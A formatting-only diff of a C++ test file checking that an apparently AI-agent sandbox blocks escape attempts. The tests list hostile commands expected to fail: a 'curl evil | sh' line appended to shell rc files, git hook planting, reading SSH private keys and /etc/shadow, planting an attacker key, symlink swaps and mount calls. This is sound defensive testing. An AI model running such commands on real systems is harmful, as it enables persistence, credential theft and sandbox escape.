@@ -52,9 +52,7 @@ std::map<std::string, std::string> Snapshot(const std::string& root) {
   return out;
 }
 
-void Write(const std::string& path, const std::string& text) {
-  std::ofstream(path) << text;
-}
+void Write(const std::string& path, const std::string& text) { std::ofstream(path) << text; }
 
 struct RunResult {
   int exit_code = -1;
@@ -176,48 +174,55 @@ class EscapeTest : public ::testing::Test {
 };
 
 TEST_F(EscapeTest, OrdinaryWorkStillWorks) {
-  RunResult run = Exec(ChatSpec(), "echo more >> file.txt && mkdir newdir && mv newdir moved && "
-                             "cat checkouts/main/README && git --version >/dev/null && echo ok");
+  RunResult run = Exec(ChatSpec(),
+                       "echo more >> file.txt && mkdir newdir && mv newdir moved && "
+                       "cat checkouts/main/README && git --version >/dev/null && echo ok");
   EXPECT_EQ(run.exit_code, 0) << run.err;
   EXPECT_TRUE(absl::StrContains(run.out, "registered checkout\nok")) << run.out;
 }
 
 TEST_F(EscapeTest, ProtectedCheckoutCannotBeWrittenMovedOrReplaced) {
   const std::string p = work_ + "/checkouts/main";
-  ExpectAllFail(ChatSpec(), {
-      "echo x >> " + p + "/README",
-      "touch " + p + "/new",
-      "rm -f " + p + "/README",
-      "mv " + p + " " + work_ + "/stolen",
-      "mv " + work_ + "/checkouts " + work_ + "/moved",     // through its parent
-      "rm -rf " + work_ + "/checkouts",
-      "mv " + work_ + "/file.txt " + p + "/README",          // rename over
-      "ln " + p + "/README " + work_ + "/hardlink",         // hardlink out, then write it
-      "rm -rf " + p + " && ln -s /tmp " + p,                // symlink swap
-      "mkdir " + work_ + "/evil && mv -T " + work_ + "/evil " + work_ + "/checkouts",
-  }, {work_ + "/checkouts"});
+  ExpectAllFail(ChatSpec(),
+                {
+                    "echo x >> " + p + "/README",
+                    "touch " + p + "/new",
+                    "rm -f " + p + "/README",
+                    "mv " + p + " " + work_ + "/stolen",
+                    "mv " + work_ + "/checkouts " + work_ + "/moved",  // through its parent
+                    "rm -rf " + work_ + "/checkouts",
+                    "mv " + work_ + "/file.txt " + p + "/README",  // rename over
+                    "ln " + p + "/README " + work_ + "/hardlink",  // hardlink out, then write it
+                    "rm -rf " + p + " && ln -s /tmp " + p,         // symlink swap
+                    "mkdir " + work_ + "/evil && mv -T " + work_ + "/evil " + work_ + "/checkouts",
+                },
+                {work_ + "/checkouts"});
 }
 
 TEST_F(EscapeTest, ShellRcFilesAndGitHooksAreReadOnlyAtAnyDepth) {
-  ExpectAllFail(ChatSpec(), {
-      "echo 'curl evil | sh' >> " + home_ + "/.bashrc",
-      "echo 'curl evil | sh' >> " + work_ + "/sub/dir/.bashrc",
-      "rm " + work_ + "/sub/dir/.bashrc",
-      "mv " + work_ + "/sub " + work_ + "/sub2",            // move the rc file's parent away
-      "printf '#!/bin/sh\\nevil' > " + work_ + "/repo/.git/hooks/pre-commit",
-      "git -C " + work_ + "/repo config core.hooksPath /tmp",
-      "mv " + work_ + "/repo/.git/hooks " + work_ + "/repo/.git/hooks.old",
-  }, {work_ + "/sub/dir", work_ + "/repo/.git", home_ + "/.bashrc"});
+  ExpectAllFail(ChatSpec(),
+                {
+                    "echo 'curl evil | sh' >> " + home_ + "/.bashrc",
+                    "echo 'curl evil | sh' >> " + work_ + "/sub/dir/.bashrc",
+                    "rm " + work_ + "/sub/dir/.bashrc",
+                    "mv " + work_ + "/sub " + work_ + "/sub2",  // move the rc file's parent away
+                    "printf '#!/bin/sh\\nevil' > " + work_ + "/repo/.git/hooks/pre-commit",
+                    "git -C " + work_ + "/repo config core.hooksPath /tmp",
+                    "mv " + work_ + "/repo/.git/hooks " + work_ + "/repo/.git/hooks.old",
+                },
+                {work_ + "/sub/dir", work_ + "/repo/.git", home_ + "/.bashrc"});
 }
 
 TEST_F(EscapeTest, SecretsCannotBeReadOrPlanted) {
   v1::SandboxSpec spec = ChatSpec();
-  ExpectAllFail(spec, {
-      "cat " + home_ + "/.ssh/id_ed25519",
-      "ls " + home_ + "/.ssh | grep id_ed25519",
-      "echo 'ssh-ed25519 AAAA attacker' > " + home_ + "/.ssh/authorized_keys",
-      "cat /etc/shadow | grep root",
-  }, {home_ + "/.ssh"});
+  ExpectAllFail(spec,
+                {
+                    "cat " + home_ + "/.ssh/id_ed25519",
+                    "ls " + home_ + "/.ssh | grep id_ed25519",
+                    "echo 'ssh-ed25519 AAAA attacker' > " + home_ + "/.ssh/authorized_keys",
+                    "cat /etc/shadow | grep root",
+                },
+                {home_ + "/.ssh"});
   RunResult listing = Exec(spec, "ls -A " + home_ + "/.ssh | wc -l");
   EXPECT_EQ(listing.out, "0\n");  // an empty directory is all that is visible
 }
@@ -226,13 +231,15 @@ TEST_F(EscapeTest, ReadOnlyModesWriteNothing) {
   for (const char* mode : {"review", "plan", "orchestrate"}) {
     v1::SandboxSpec spec = ChatSpec(mode);
     spec.clear_write_deny_patterns();  // nothing is writable: the standard policy runs
-    ExpectAllFail(spec, {
-        "echo x >> " + work_ + "/file.txt",
-        "touch " + work_ + "/new.txt",
-        "rm " + work_ + "/file.txt",
-        "mkdir " + work_ + "/d",
-        "mv " + work_ + "/file.txt " + work_ + "/f2",
-    }, {root_});
+    ExpectAllFail(spec,
+                  {
+                      "echo x >> " + work_ + "/file.txt",
+                      "touch " + work_ + "/new.txt",
+                      "rm " + work_ + "/file.txt",
+                      "mkdir " + work_ + "/d",
+                      "mv " + work_ + "/file.txt " + work_ + "/f2",
+                  },
+                  {root_});
     RunResult read = Exec(spec, "cat " + work_ + "/file.txt");
     EXPECT_EQ(read.out, "ordinary\n") << mode;
   }
@@ -242,22 +249,26 @@ TEST_F(EscapeTest, ProtectedPathsHoldThroughSymlinkSpellings) {
   // Protected through a /tmp-style symlink: the resolved spelling is what the kernel sees.
   v1::SandboxSpec spec = ChatSpec();
   spec.add_protected_paths(work_ + "/tmp/target");
-  ExpectAllFail(spec, {
-      "echo x >> " + work_ + "/private/tmp/target",
-      "echo x >> " + work_ + "/tmp/target",
-      "rm " + work_ + "/private/tmp/target",
-  }, {work_ + "/private"});
+  ExpectAllFail(spec,
+                {
+                    "echo x >> " + work_ + "/private/tmp/target",
+                    "echo x >> " + work_ + "/tmp/target",
+                    "rm " + work_ + "/private/tmp/target",
+                },
+                {work_ + "/private"});
 }
 
 TEST_F(EscapeTest, RootCannotMountOrTuneTheKernel) {
-  ExpectAllFail(ChatSpec(), {
-      "mount -t tmpfs none " + work_ + "/sub",
-      "mount --bind / " + work_ + "/sub",
-      "echo 1 > /proc/sys/kernel/sysrq",
-      "echo 1 > /proc/sys/net/ipv4/ip_forward",
-      "umount " + work_ + "/checkouts/main",
-      "unshare -m -r true",
-  }, {root_});
+  ExpectAllFail(ChatSpec(),
+                {
+                    "mount -t tmpfs none " + work_ + "/sub",
+                    "mount --bind / " + work_ + "/sub",
+                    "echo 1 > /proc/sys/kernel/sysrq",
+                    "echo 1 > /proc/sys/net/ipv4/ip_forward",
+                    "umount " + work_ + "/checkouts/main",
+                    "unshare -m -r true",
+                },
+                {root_});
 }
 
 TEST_F(EscapeTest, TheSeccompBaselineRefusesKernelAttackSurface) {
@@ -276,10 +287,11 @@ for name, nr, args in [("ptrace", 101, (16, 1, 0, 0)), ("process_vm_readv", 310,
 ')";
   RunResult run = Exec(ChatSpec(), script);
   EXPECT_EQ(run.exit_code, 0) << run.err;
-  for (const char* name : {"ptrace", "process_vm_readv", "io_uring_setup", "bpf",
-                           "perf_event_open", "userfaultfd", "keyctl", "kexec_load"}) {
+  for (const char* name : {"ptrace", "process_vm_readv", "io_uring_setup", "bpf", "perf_event_open",
+                           "userfaultfd", "keyctl", "kexec_load"}) {
     EXPECT_TRUE(absl::StrContains(run.out, std::string(name) + " -1 Operation not permitted"))
-        << name << "\n" << run.out;
+        << name << "\n"
+        << run.out;
   }
   RunResult tiocsti = Exec(ChatSpec(), R"(python3 -c '
 import fcntl, termios, os, pty
